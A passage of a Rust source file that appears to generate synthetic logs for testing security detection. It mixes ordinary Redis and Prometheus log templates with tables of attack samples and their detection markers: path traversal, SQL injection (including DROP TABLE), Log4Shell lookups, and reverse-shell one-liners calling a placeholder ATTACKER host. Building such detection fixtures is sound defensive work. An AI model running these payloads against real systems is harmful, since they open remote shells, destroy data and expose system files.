    (true, "* DB saved on disk"),
    (
        true,
        "* Fork CoW for RDB: current {n2} MB, peak {n2} MB, average {n2} MB",
    ),
    (false, "* Background saving terminated with success"),
];
const LOGFMT_INFO: &[&str] = &[
    "caller=head.go:{n4} level=info component=tsdb msg=\"Head GC completed\" caller=truncateMemory duration={ms}ms",
    "caller=compact.go:{n3} level=info component=tsdb msg=\"write block\" ulid={ulid} duration={ms}ms",
    "caller=db.go:{n4} level=info component=tsdb msg=\"Deleting obsolete block\" block={ulid}",
    "caller=checkpoint.go:{n3} level=info component=tsdb msg=\"Creating checkpoint\" from_segment={n3} to_segment={n3}",
    "caller=reloader.go:{n3} level=info msg=\"Reload triggered\" cfg_in=/etc/prometheus/config/prometheus.yaml.gz cfg_out=/etc/prometheus/config_out/prometheus.env.yaml",
    "caller=collector.go:{n3} level=info msg=\"Established new database connection\" fingerprint=postgres-0:5432",
];
const LOGFMT_WARN: &[&str] = &[
    "caller=scrape.go:{n4} level=warn component=\"scrape manager\" scrape_pool=serviceMonitor/{ns}/{app}/0 target=http://{ip}:8080/metrics msg=\"Append failed\" err=\"out of bounds\"",
    "caller=klog.go:{n3} level=warn component=k8s_client_runtime func=Warningf msg=\"watch of *v1.Endpoints ended with: an error on the server (\\\"unable to decode an event from the watch stream: context canceled\\\") has prevented the request from succeeding\"",
];
const LOGFMT_ERROR: &[&str] = &[
    "caller=notifier.go:{n3} level=error component=notifier alertmanager=http://{ip}:9093/api/v2/alerts count=1 msg=\"Error sending alert\" err=\"Post \\\"http://{ip}:9093/api/v2/alerts\\\": context deadline exceeded\"",
    "caller=collector.go:{n3} level=error msg=\"Error opening connection to database\" err=\"dial tcp {ip}:5432: connect: connection refused\"",
];

const SCANNER_AGENTS: &[&str] = &[
    "sqlmap/1.8#stable (https://sqlmap.org)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Mozilla/5.0 zgrab/0.x",
    "python-requests/2.31.0",
    "curl/7.88.1",
];
/// Path-traversal probes and the text that marks them.
const TRAVERSALS: &[(&str, &str)] = &[
    ("/../../../../etc/passwd", "../../etc/passwd"),
    ("/static/../../../../etc/passwd", "../../etc/passwd"),
    (
        "/download?file=../../../../../etc/passwd",
        "../../etc/passwd",
    ),
    ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", ".%2e/.%2e/"),
    ("/images/..%2f..%2f..%2f..%2fetc%2fpasswd", "..%2f..%2f"),
];
/// SQL-injection probes in request paths.
const SQLI_PATHS: &[(&str, &str)] = &[
    ("/api/v1/products?id=1' OR 1=1--", "' OR 1=1--"),
    ("/login?username=admin' OR 1=1--&password=x", "' OR 1=1--"),
    ("/search?q=%27%20OR%201%3D1--", "%27%20OR%201%3D1--"),
    (
        "/api/v1/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
        "UNION%20SELECT",
    ),
];
/// SQL injection in a login name.
const SQLI_LOGINS: &[(&str, &str)] = &[
    ("admin' OR 1=1--", "' OR 1=1--"),
    ("' OR '1'='1", "' OR '1'='1"),
    ("admin'; DROP TABLE users;--", "DROP TABLE users"),
];
/// Log4Shell lookups (`ATTACKER` is replaced by the attacker's address).
const LOG4SHELL: &[(&str, &str)] = &[
    ("${jndi:ldap://ATTACKER:1389/Exploit}", "${jndi:ldap://"),
    (
        "${jndi:ldap://ATTACKER:1389/Basic/Command/Base64/d2dldCBodHRwOi8v}",
        "${jndi:ldap://",
    ),
    (
        "${jndi:${lower:l}${lower:d}ap://ATTACKER/a}",
        "${jndi:${lower:l}",
    ),
    (
        "${${::-j}${::-n}${::-d}${::-i}:rmi://ATTACKER/x}",
        "${${::-j}${::-n}",
    ),
];
/// Reverse-shell commands seen in container output.
const REVERSE_SHELLS: &[(&str, &str)] = &[
    ("+ bash -c 'bash -i >& /dev/tcp/ATTACKER/4444 0>&1'", "/dev/tcp/"),
    ("sh: nc -e /bin/sh ATTACKER 9001", "nc -e /bin/sh"),
    ("python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"ATTACKER\",4242));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])'", "subprocess.call([\"/bin/sh\",\"-i\"])"),
    ("+ rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc ATTACKER 4444 >/tmp/f", "mkfifo /tmp/f"),
    ("socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:ATTACKER:4444", "socat exec:"),
];
